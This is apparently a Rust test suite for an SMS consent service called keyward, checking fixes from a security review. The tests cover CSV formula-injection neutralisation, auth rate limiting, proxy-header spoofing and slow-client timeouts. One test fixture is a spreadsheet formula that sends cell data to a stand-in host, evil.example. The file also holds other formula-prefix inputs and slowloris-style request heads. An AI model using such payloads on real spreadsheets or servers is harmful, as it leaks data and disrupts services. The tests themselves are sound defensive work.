//! The doors closed by the security review (issue #11): each test here
//! failed on the code before it.

use std::path::Path;

use keyward::config::Settings;
use serde_json::{json, Value};

use crate::support::{fresh_database, spawn_app, spawn_app_on, TestApp};

const NUMBER: &str = "+6281299999999";

/// Settings from a configuration file's text, ready for a test server.
fn settings_from_file(text: &str) -> Settings {
    let mut s = Settings::from_sources(Some((Path::new("keyward.toml"), text)), &[])
        .unwrap_or_else(|e| panic!("test config is valid: {e}"));
    s.listen = "127.0.0.1:0".into();
    s.service.shutdown_grace_secs = 1;
    s
}

async fn token(app: &TestApp, name: &str, role: &str) -> String {
    app.token(name, role).await
}

#[tokio::test]
async fn a_config_with_only_twilio_gets_no_unsigned_generic_webhook() {
    let settings = settings_from_file(
        r#"
        [service]
        public_url = "https://sms.example.com"
        [gateways.twilio]
        account_sid = "AC0123456789abcdef0123456789abcdef"
        auth_token = "twilio-auth-token-0123"
        "#,
    );
    let app = spawn_app_on(fresh_database().await, settings).await;
    let res = app
        .http
        .post(app.url("/webhooks/generic"))
        .header("content-type", "application/json")
        .body(
            json!({"id": "x", "from": NUMBER, "to": "3344", "text": "MAU",
                   "received_at": "2020-01-01T00:00:00Z"})
            .to_string(),
        )
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 404, "no generic gateway was configured");
    assert_eq!(
        app.count("SELECT count(*) FROM subscription_events").await,
        0
    );
    let ready: Value = app.get("/readyz").await.json().await.unwrap();
    assert!(ready.get("warnings").is_none(), "{ready}");
}

#[tokio::test]
async fn the_built_in_default_says_on_readyz_that_it_is_unsigned() {
    let settings = crate::support::test_settings(|_| {});
    let app = spawn_app_on(fresh_database().await, settings).await;
    let ready: Value = app.get("/readyz").await.json().await.unwrap();
    assert_eq!(ready["status"], "ready");
    let warning = ready["warnings"][0].as_str().unwrap_or_default();
    assert!(
        warning.contains("generic") && warning.contains("unsigned"),
        "{ready}"
    );
    // Unsigned is for this machine only: a proxied request is refused.
    let post = |forwarded: bool| {
        let mut req = app
            .http
            .post(app.url("/webhooks/generic"))
            .header("content-type", "application/json")
            .body(
                json!({"id": format!("u-{forwarded}"), "from": NUMBER, "to": "3344", "text": "MAU"})
                    .to_string(),
            );
        if forwarded {
            req = req.header("x-forwarded-for", "203.0.113.7");
        }
        req.send()
    };
    assert_eq!(post(true).await.unwrap().status(), 401);
    assert_eq!(post(false).await.unwrap().status(), 200);
}

#[tokio::test]
async fn a_backdated_received_at_does_not_backdate_the_consent_ledger() {
    let app = spawn_app().await;
    let res = app
        .post_generic(
            &json!({"id": "old-1", "from": NUMBER, "to": "3344", "text": "MAU",
                              "received_at": "2020-01-01T00:00:00Z"}),
        )
        .await;
    assert_eq!(res.status(), 200);
    let answer: Value = res.json().await.unwrap();
    assert_eq!(answer["state"], "subscribed");
    assert!(
        answer["note"]
            .as_str()
            .unwrap_or_default()
            .contains("arrival"),
        "the answer says the gateway's time was set aside: {answer}"
    );
    let db = app.db().await;
    let row = db
        .query_one(
            "SELECT m.sent_at = '2020-01-01T00:00:00Z', e.effective_at > now() - interval '1 minute'
               FROM subscription_events e JOIN inbound_messages m ON m.id = e.inbound_message_id
              WHERE e.msisdn = $1",
            &[&NUMBER],
        )
        .await
        .unwrap();
    assert!(row.get::<_, bool>(0), "the message keeps the time as given");
    assert!(row.get::<_, bool>(1), "the ledger records the arrival");

    // A plausible delay (a gateway that queued through an outage) is kept.
    let recent = (chrono::Utc::now() - chrono::Duration::hours(3)).to_rfc3339();
    let res = app
        .post_generic(
            &json!({"id": "late-1", "from": "+6281299999998", "to": "3344",
                              "text": "MAU", "received_at": recent}),
        )
        .await;
    let answer: Value = res.json().await.unwrap();
    assert!(answer.get("note").is_none(), "{answer}");
    let hours: f64 = db
        .query_one(
            "SELECT (extract(epoch FROM now() - effective_at) / 3600)::float8 FROM subscription_events
              WHERE msisdn = '+6281299999998'",
            &[],
        )
        .await
        .unwrap()
        .get(0);
    assert!((2.9..3.1).contains(&hours), "{hours}");
}

#[tokio::test]
async fn the_consent_export_never_hands_a_spreadsheet_a_formula() {
    let app = spawn_app().await;
    let support = token(&app, "ana", "support").await;
    let texts = [
        ("+6281200000001", "MAU"),
        (
            "+6281200000001",
            "=STOP()+HYPERLINK(\"http://evil.example/?\"&A1)",
        ),
        ("+6281200000002", "MAU"),
        ("+6281200000002", "@STOP please"),
        ("+6281200000003", "MAU"),
        ("+6281200000003", "-STOP"),
        ("+6281200000004", "MAU"),
        ("+6281200000004", "+STOP+"),
    ];
    for (number, text) in texts {
        app.text(number, text).await;
    }
    let body = app
        .http
        .get(app.url("/v1/consent-export"))
        .bearer_auth(&support)
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let mut reader = csv::Reader::from_reader(body.as_bytes());
    let header = reader.headers().unwrap().clone();
    let text_col = header.iter().position(|h| h == "text").unwrap();
    let msisdn_col = header.iter().position(|h| h == "msisdn").unwrap();
    let mut opt_outs = 0;
    for record in reader.records() {
        let record = record.unwrap();
        for cell in record.iter() {
            let formula = cell.starts_with(['=', '@', '\t', '\r'])
                || (cell.starts_with(['+', '-']) && !cell[1..].bytes().all(|b| b.is_ascii_digit()));
            assert!(!formula, "a live formula in the export: {cell:?}");
        }
        assert!(
            record[msisdn_col].starts_with("+62"),
            "numbers stay numbers"
        );
        if record[text_col].starts_with('\'') {
            opt_outs += 1;
        }
    }
    assert_eq!(
        opt_outs, 4,
        "each opt-out text exported, neutralised:\n{body}"
    );
}

#[tokio::test]
async fn the_audit_log_refuses_truncate_like_the_ledger() {
    let app = spawn_app().await;
    let err = app
        .db()
        .await
        .batch_execute("TRUNCATE audit_log")
        .await
        .expect_err("TRUNCATE of the audit trail is refused");
    assert!(err.to_string().contains("append-only") || format!("{err:?}").contains("append-only"));
}

/// Settings of the default test app with the failure allowance `n`.
fn with_failure_allowance(n: u32) -> Settings {
    let mut s = crate::support::signed_generic_settings();
    s.service.max_auth_failures_per_minute = n;
    s
}

async fn audit_rows(app: &TestApp) -> i64 {
    app.count("SELECT count(*) FROM audit_log WHERE actor = 'unauthenticated'")
        .await
}

#[tokio::test]
async fn failed_authentications_past_the_allowance_get_429_and_no_audit_rows() {
    let app = spawn_app_on(fresh_database().await, with_failure_allowance(3)).await;
    let well_formed_but_unknown = keyward::staff::new_token();
    let long_query = "q=".to_owned() + &"A".repeat(5000);
    for (i, token) in [well_formed_but_unknown.as_str(), "garbage", ""]
        .iter()
        .enumerate()
    {
        let res = app
            .http
            .get(app.url(&format!("/v1/stats?{long_query}")))
            .bearer_auth(token)
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), 401, "failure {i} is within the allowance");
    }
    for _ in 0..5 {
        let res = app
            .http
            .get(app.url("/v1/stats"))
            .bearer_auth("garbage")
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), 429);
        assert_eq!(res.headers()["retry-after"], "60");
    }
    let res = app
        .http
        .post(app.url("/console/login"))
        .form(&[("token", "kw_wrong")])
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 429, "console sign-in shares the allowance");
    assert_eq!(
        audit_rows(&app).await,
        3,
        "only failures within the allowance are audited"
    );
    let (query, bytes): (String, i32) = {
        let row = app
            .db()
            .await
            .query_one(
                "SELECT detail->>'query', (detail->>'query_bytes')::int FROM audit_log
                  WHERE actor = 'unauthenticated' ORDER BY id LIMIT 1",
                &[],
            )
            .await
            .unwrap();
        (row.get(0), row.get(1))
    };
    assert_eq!(query.chars().count(), 256, "the query is clipped");
    assert_eq!(bytes as usize, long_query.len(), "and its length kept");
    // Until the allowance refills by one (20 s at 3 a minute) this
    // address is refused before any database work, even with a real token.
    let real = token(&app, "ana", "support").await;
    let res = app
        .http
        .get(app.url("/v1/stats"))
        .bearer_auth(&real)
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 429, "blocked addresses are refused up front");
    assert_eq!(audit_rows(&app).await, 3);
}

#[tokio::test]
async fn a_spoofed_x_forwarded_proto_from_an_untrusted_client_is_ignored() {
    let app = spawn_app().await;
    let secret = token(&app, "ana", "support").await;
    let http = crate::support::no_redirects();
    let res = http
        .post(app.url("/console/login"))
        .header("x-forwarded-proto", "https")
        .form(&[("token", secret.as_str())])
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 303);
    let cookie = res.headers()["set-cookie"].to_str().unwrap();
    assert!(
        !cookie.contains("Secure"),
        "no trusted proxy sent it: {cookie}"
    );
}

#[tokio::test]
async fn answers_with_personal_data_are_not_stored_by_caches() {
    let app = spawn_app().await;
    let support = token(&app, "ana", "support").await;
    app.text(NUMBER, "MAU").await;
    for path in [
        format!("/v1/subscribers/{NUMBER}"),
        "/v1/subscribers".to_owned(),
        "/v1/stats".to_owned(),
        "/v1/nothing-here".to_owned(),
    ] {
        let res = app
            .http
            .get(app.url(&path))
            .bearer_auth(&support)
            .send()
            .await
            .unwrap();
        assert_eq!(res.headers()["cache-control"], "no-store", "{path}");
    }
    let res = app.get("/console/login").await;
    assert_eq!(res.headers()["cache-control"], "no-store");
}

#[tokio::test]
async fn metric_labels_come_from_a_fixed_set() {
    let app = spawn_app().await;
    for i in 0..20 {
        let method = reqwest::Method::from_bytes(format!("AAAA{i}").as_bytes()).unwrap();
        app.http
            .request(method, app.url("/healthz"))
            .send()
            .await
            .unwrap();
    }
    let text = app.get("/metrics").await.text().await.unwrap();
    assert!(!text.contains("AAAA"), "no series per invented method");
    assert!(text.contains("method=\"OTHER\""), "{text}");
    assert!(
        text.contains("keyward_outbox_replies{status=\"queued\","),
        "{text}"
    );
    assert!(
        !text.contains("keyward_outbox_replies{status=\"sent\","),
        "finished replies are counted by replies_total, not by a scan"
    );
}

#[tokio::test]
async fn metrics_need_the_token_when_one_is_set() {
    let mut settings = crate::support::signed_generic_settings();
    settings.service.metrics_token = Some(keyward::config::Secret::new("metrics-token-0123456789"));
    let app = spawn_app_on(fresh_database().await, settings).await;
    assert_eq!(app.get("/metrics").await.status(), 401);
    let wrong = app
        .http
        .get(app.url("/metrics"))
        .bearer_auth("metrics-token-x")
        .send()
        .await;
    assert_eq!(wrong.unwrap().status(), 401);
    let right = app
        .http
        .get(app.url("/metrics"))
        .bearer_auth("metrics-token-0123456789")
        .send()
        .await
        .unwrap();
    assert_eq!(right.status(), 200);
}

/// Opens a TCP connection, sends `head` and `body_part`, and waits for the
/// server's answer or for it to close the connection.
async fn dribble(app: &TestApp, head: &str, body_part: &[u8]) -> (String, std::time::Duration) {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let addr = app.address.trim_start_matches("http://");
    let mut stream = tokio::net::TcpStream::connect(addr).await.unwrap();
    let started = std::time::Instant::now();
    stream.write_all(head.as_bytes()).await.unwrap();
    stream.write_all(body_part).await.unwrap();
    let mut answer = Vec::new();
    let read = tokio::time::timeout(
        std::time::Duration::from_secs(20),
        stream.read_to_end(&mut answer),
    )
    .await;
    assert!(read.is_ok(), "the server held a slow client for 20 s");
    (
        String::from_utf8_lossy(&answer).into_owned(),
        started.elapsed(),
    )
}

#[tokio::test]
async fn slow_clients_are_cut_off_by_the_server() {
    let mut settings = crate::support::signed_generic_settings();
    settings.service.request_timeout_secs = 1;
    let app = spawn_app_on(fresh_database().await, settings).await;
    // A body that never finishes.
    let (answer, took) = dribble(
        &app,
        "POST /webhooks/generic HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n",
        b"{\"id\":",
    )
    .await;
    assert!(answer.starts_with("HTTP/1.1 408"), "{answer}");
    assert!(took < std::time::Duration::from_secs(5), "{took:?}");
    // A staff body too (the JSON extractor), within three times the timeout.
    let (answer, took) = dribble(
        &app,
        "POST /v1/subscribers/+6281234567890/opt-out HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n",
        b"{",
    )
    .await;
    assert!(
        answer.starts_with("HTTP/1.1 503") || answer.starts_with("HTTP/1.1 401"),
        "{answer}"
    );
    assert!(took < std::time::Duration::from_secs(8), "{took:?}");
    // A head that never finishes.
    let (answer, took) = dribble(&app, "GET /healthz HTTP/1.1\r\nHost: x\r\n", b"").await;
    assert!(
        answer.is_empty() || answer.starts_with("HTTP/1.1 408"),
        "{answer}"
    );
    assert!(took < std::time::Duration::from_secs(5), "{took:?}");
    // The server still answers everyone else.
    assert_eq!(app.get("/healthz").await.status(), 200);
}

#[tokio::test]
async fn busy_staff_routes_cannot_take_the_webhooks_connections() {
    let app = spawn_app().await;
    let support = token(&app, "ana", "support").await;
    app.text(NUMBER, "MAU").await;
    // An open writer makes every export wait (up to 10 s) holding a staff
    // connection; more exports than the staff pool has connections.
    let mut writer = app.db().await;
    let writer = writer.transaction().await.unwrap();
    writer
        .execute(
            "SELECT keyward_staff_opt_out($1::text, 'default', 'ana', 'phone', NULL, NULL, '3344', 'log')",
            &[&NUMBER],
        )
        .await
        .unwrap();
    let mut exports = Vec::new();
    for _ in 0..8 {
        let (url, support) = (app.url("/v1/consent-export"), support.clone());
        exports.push(tokio::spawn(async move {
            reqwest::Client::new()
                .get(url)
                .bearer_auth(support)
                .send()
                .await
                .map(|r| r.status())
        }));
    }
    tokio::time::sleep(std::time::Duration::from_millis(500)).await;
    let started = std::time::Instant::now();
    for i in 0..10 {
        let res = app
            .post_generic(&json!({"id": format!("busy-{i}"), "from": "+6281299990000",
                                  "to": "3344", "text": "INFO"}))
            .await;
        assert_eq!(res.status(), 200);
    }
    assert!(
        started.elapsed() < std::time::Duration::from_secs(3),
        "webhooks did not wait for staff connections: {:?}",
        started.elapsed()
    );
    writer.commit().await.unwrap();
    for e in exports {
        let status = e.await.unwrap().unwrap();
        assert!(status == 200 || status == 503, "{status}");
    }
}

#[tokio::test]
async fn a_number_that_does_not_parse_is_refused_without_showing_it() {
    let app = spawn_app().await;
    let res = app
        .post_generic(&json!({"id": "bad-1", "from": "+62812345678901234567",
                              "to": "3344", "text": "MAU"}))
        .await;
    assert_eq!(res.status(), 400);
    let body = res.text().await.unwrap();
    assert!(!body.contains("62812345678901234567"), "{body}");
    assert!(!keyward::telemetry::looks_like_a_number(&body), "{body}");
    // A number where text belongs: the JSON parser's message quotes it.
    let res = app
        .post_generic(
            &json!({"id": "bad-2", "from": 6281234567890_i64, "to": "3344", "text": "MAU"}),
        )
        .await;
    assert_eq!(res.status(), 400);
    let body = res.text().await.unwrap();
    assert!(!body.contains("6281234567890"), "{body}");
}

/// A libpq connection string for `db`, for the CLI's `DATABASE_URL`.
fn database_url(db: &tokio_postgres::Config) -> String {
    let host = match &db.get_hosts()[0] {
        tokio_postgres::config::Host::Unix(p) => p.display().to_string(),
        tokio_postgres::config::Host::Tcp(h) => h.clone(),
    };
    format!(
        "host={host} port={} user={} dbname={}",
        db.get_ports()[0],
        db.get_user().unwrap_or("postgres"),
        db.get_dbname().unwrap_or("postgres")
    )
}

#[tokio::test]
async fn token_changes_from_the_cli_are_audited() {
    let app = spawn_app().await;
    let url = database_url(&app.db);
    let run = |args: &[&str]| {
        let out = std::process::Command::new(env!("CARGO_BIN_EXE_keyward"))
            .args(args)
            .env("DATABASE_URL", &url)
            .env_remove("KEYWARD_CONFIG")
            .current_dir(std::env::temp_dir())
            .output()
            .expect("run keyward");
        assert!(
            out.status.success(),
            "{args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    };
    run(&["token", "create", "--role", "admin", "--name", "ops"]);
    run(&["token", "revoke", "ops"]);
    let rows = app
        .db()
        .await
        .query(
            "SELECT endpoint, detail->>'name' FROM audit_log WHERE actor = 'cli' ORDER BY id",
            &[],
        )
        .await
        .unwrap();
    let seen: Vec<(String, String)> = rows.iter().map(|r| (r.get(0), r.get(1))).collect();
    assert_eq!(
        seen,
        [
            ("token create".to_owned(), "ops".to_owned()),
            ("token revoke".to_owned(), "ops".to_owned())
        ]
    );
}
